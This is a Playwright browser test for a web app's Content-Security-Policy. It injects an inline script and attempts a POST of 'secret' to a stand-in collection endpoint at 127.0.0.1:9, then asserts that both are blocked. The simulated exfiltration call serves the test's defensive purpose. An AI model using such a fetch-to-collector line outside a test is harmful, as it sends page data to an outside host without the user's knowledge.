/** The built app's Content-Security-Policy, enforced by a real browser. */
import { test, expect } from './fixtures'
import { clipPath } from './clips'
import { expectLiveCamera, root, tapStart } from './helpers'

test('the built page runs no injected inline script and cannot connect to origins it was not built for', async ({ openApp }) => {
  const page = await openApp({ clip: clipPath('model') })
  const violations: string[] = []
  await page.exposeFunction('__cspViolation', (directive: string) => violations.push(directive))
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { __cspViolation(d: string): void }).__cspViolation(e.effectiveDirective),
    )
  })
  // An attacker who gets markup into the page still gets no script to run.
  const ran = await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.__injected = true'
    document.head.append(script)
    return (window as unknown as { __injected?: boolean }).__injected === true
  })
  expect(ran).toBe(false)
  // …and nothing it could read can be sent to another origin (another port is another origin).
  const exfiltrated = await page.evaluate(() =>
    fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'secret' }).then(
      () => true,
      () => false,
    ),
  )
  expect(exfiltrated).toBe(false)
  await expect.poll(() => violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']))
  // The app itself works under the policy: camera, recognizer, token, model and decoders.
  await tapStart(page)
  await expectLiveCamera(page)
  await expect(root(page)).toHaveAttribute('data-content', 'shown', { timeout: 30_000 })
})
